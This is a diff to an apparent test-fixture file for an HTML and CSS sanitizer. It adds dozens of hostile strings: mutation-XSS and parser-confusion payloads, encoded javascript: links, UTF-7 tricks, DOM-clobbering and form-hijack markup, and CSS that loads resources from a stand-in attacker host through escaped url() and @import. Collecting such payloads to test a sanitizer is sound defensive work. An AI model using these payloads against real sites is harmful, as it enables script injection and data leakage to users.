@@ -233,6 +233,42 @@ const LEAKS = [
   `<p itemscope itemtype="${OUTSIDE}" data-path="website_name" data-sample contenteditable>x</p>`,
 ];
 
+/** Whole documents and fragments in which several of these ways meet. */
+const COMBINED = [
+  `<math><mtext><table><mglyph><style><math><table id="</table>"><img src=x onerror="${RUN}">`,
+  `<svg><desc><template><svg><title><style></title><img src=x onerror="${RUN}"></style></svg></template></desc></svg>`,
+  `<template><template><template><p></template></template><img src=x onerror="${RUN}"></template>`,
+  `<svg><p><style><g title="</style><img src=x onerror=${RUN}>"></g></style></svg>`,
+  `<math><annotation-xml encoding="application/xhtml+xml"><svg><foreignObject><math><mi><img src=x onerror="${RUN}"></mi></math></foreignObject></svg></annotation-xml></math>`,
+  `<svg xmlns:xlink="http://www.w3.org/1999/xlink"><use xlink:href="data:image/svg+xml;base64,PHN2Zy8+#x"/><image xlink:href="${OUTSIDE}/x.svg"/></svg>`,
+  `<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A${RUN}">x</a>`,
+  `<a href="&#1;&#9;java&NewLine;script&colon;${RUN}" title="&#1&#31">x</a>`,
+  `<p title="&#xfdd0;&#0;&#128;&#xd800;">&#1&#8&#11&#127&#xffff</p>`,
+  `\ufeff\u0000<p>\u0000<scr\u0000ipt>${RUN}</scr\u0000ipt></p>\ufeff`,
+  `+ADw-img src+AD0-x onerror+AD0-${RUN}+AD4-<meta charset="utf-7"><meta http-equiv="content-type" content="text/html; charset=utf-7">`,
+  `<!doctype html><html manifest="${OUTSIDE}/m"><head><base href="${OUTSIDE}/" target="_top"><meta name="referrer" content="unsafe-url"></head><body bgcolor=red><a href="/images/a">x</a></body></html>`,
+  `<link rel="serviceworker" scope="/" href="${OUTSIDE}/sw.js"><link rel="modulepreload" href="${OUTSIDE}/m.js"><link rel="preconnect" href="${OUTSIDE}">`,
+  `<a href="#x" target="__hacked" rel="opener" ping="${OUTSIDE}/ping" attributionsrc="${OUTSIDE}/a" download="x.html">x</a>`,
+  `<a href="${OUTSIDE}/frame" target="window.name=${RUN}" rel="opener">x</a><iframe name="__hacked" srcdoc="<base target=_top>"></iframe>`,
+  `<p id="body"></p><p id="head"></p><a id="location" href="${OUTSIDE}"></a><a id="location" name="href" href="${OUTSIDE}"></a><p id="constructor"></p><p id="__proto__"></p>`,
+  `<form id="documentElement" action="${OUTSIDE}"><input formaction="${JS}" type="image" src="${OUTSIDE}/i.png"><button formaction="${JS}" formtarget="_top">x</button></form>`,
+  `<img src="/images/a/b-1.webp" alt="x" srcset="data:image/svg+xml,<svg/onload=${RUN}> 1x, javascript:${RUN} 2x, /images/a/b-1.webp" sizes="expression(${RUN})">`,
+  `<img src="/images/a/b-1.webp?u=${OUTSIDE}" alt="x"><img src="/images/a/b-1.webp#${OUTSIDE}" alt="x"><img src="/images/a/..%2f..%2fevil" alt="x"><img src="/images//evil.example/x.webp" alt="x">`,
+  `<p style="background:URL(${OUTSIDE}/1);background:\\75rl(${OUTSIDE}/2);background:u/**/rl(${OUTSIDE}/3);background:url(&#34;${OUTSIDE}/4&#34;);background:image-set(&#39;${OUTSIDE}/5&#39; 2x)">x</p>`,
+  `<p style="background:url(/images/a/b-1.webp&#10;${OUTSIDE});&lt;/style&gt;&lt;script&gt;${RUN}&lt;/script&gt;:x">x</p>`,
+  `<a href="${OUTSIDE}/?q=<p>all that follows</p><img src='${OUTSIDE}/q?`,
+  `<p><table><tr><style><td><a title="</style><img src=x onerror=${RUN}>"></table></p>`,
+  `<a><p><a><table><b><a href="${JS}"><tr><i><td></b></a><img src=x onerror="${RUN}">`,
+  `<select><select><keygen onfocus="${RUN}"><selectedcontent><img src=x onerror="${RUN}"></selectedcontent></select>`,
+  `<p ${Array.from({ length: 400 }, (_, index) => `onx${index}="${index}"`).join(' ')} onclick="${RUN}">x</p>`,
+  `${'<b><div>'.repeat(60)}<svg>${'<g>'.repeat(60)}<script>${RUN}</script>`,
+  `<details open name="x"><summary><img src=x onerror="${RUN}"></summary><object data="data:text/html,<script>${RUN}</script>"></object></details>`,
+  `<image src="${OUTSIDE}/i.png" onerror="${RUN}"><image href="${OUTSIDE}/i.png">`,
+  `<pre>\n\n<!-- --!>\n<textarea>\n</pre><img src=x onerror="${RUN}"></textarea>`,
+  `<script nomodule>/*</script*/</script ><img src=x onerror="${RUN}"><!--<script></script>--!>`,
+  `<ruby><rt><rtc><svg><![CDATA[</svg><img src=x onerror="${RUN}">]]></svg></rtc></rt></ruby>`,
+];
+
 /** Every piece of hostile HTML, each once. */
 export const HOSTILE_HTML: readonly string[] = [
   ...SCRIPTS,
@@ -243,6 +279,7 @@ export const HOSTILE_HTML: readonly string[] = [
   ...MUTATIONS,
   ...BROKEN,
   ...LEAKS,
+  ...COMBINED,
 ];
 
 /** Every piece of hostile CSS, each once. */
@@ -302,4 +339,19 @@ export const HOSTILE_CSS: readonly string[] = [
   `@media screen{@import "${OUTSIDE}/in.css";a{&{background:url(${OUTSIDE}/amp.png)}}}`,
   `@counter-style x{system:cyclic;symbols:url(${OUTSIDE}/cs.png)} ul{list-style:x}`,
   `@view-transition{navigation:auto} @page{background:url(${OUTSIDE}/page.png)}`,
+  `@layer a{@import url(${OUTSIDE}/l.css) layer(a);b{background:u\\000072l(${OUTSIDE}/l.png)}}`,
+  `@scope (p) to (img){:scope{background:url(${OUTSIDE}/sc.png)}} @scope (a[href^="//"]){a{position:fixed}}`,
+  `@container x (width > 1px){a{background:url( ${OUTSIDE}/co.png )}} @container scroll-state(stuck: top){a{position:FIXED}}`,
+  `@property --p{syntax:"*";inherits:false;initial-value:url(${OUTSIDE}/p.png)}a{background:var(--p)}`,
+  `@\\000069mport\\20"${OUTSIDE}/e.css";@im\\port "${OUTSIDE}/f.css";`,
+  `a{background:url(\\68ttps://evil.example/h.png);background:url("\\2f\\2f evil.example/i.png");background:url(/\\2f evil.example/j.png)}`,
+  `a{background:url(/images/a/b-1.webp\\0a ${OUTSIDE});background:url(/images/a/\\2e\\2e/\\2e\\2e/evil)}`,
+  `\ufeff@charset "utf-7";+ADw-/style+AD4-\u0000a{background:url(${OUTSIDE}\u0000/n.png)}`,
+  `a{${'color:rgb('.repeat(55)}red;background:url(${OUTSIDE}/deep.png)`,
+  `a{--x:</style><script>${RUN}</script>;--y:{background:url(${OUTSIDE}/y.png)};--z:url(${OUTSIDE}/z.png)}`,
+  `@font-feature-values x{@styleset{a:1}} @font-palette-values --p{base-palette:url(${OUTSIDE}/fp)} @position-try --t{position:fixed}`,
+  `a{src:url(${OUTSIDE}/src);background:paint(x,url(${OUTSIDE}/w));offset-path:url(${OUTSIDE}/o#p);shape-outside:url(${OUTSIDE}/so.png);marker:url(#${OUTSIDE})}`,
+  `a{background:if(style(--x:1): url(${OUTSIDE}/if.png));background:attr(href type(<url>));background:light-dark(url(${OUTSIDE}/ld),red)}`,
+  `@function --f(){result:url(${OUTSIDE}/fn.png)} a{background:--f()} @media (--x:url(${OUTSIDE}/m)){a{all:unset}}`,
+  `@font-face{font-family:z;src:url(/fonts/../../evil) format("woff2"),url(/fonts/a.woff2\\0) tech(color-SVG)}a{unicode-range:u+0-7f;}`,
 ];
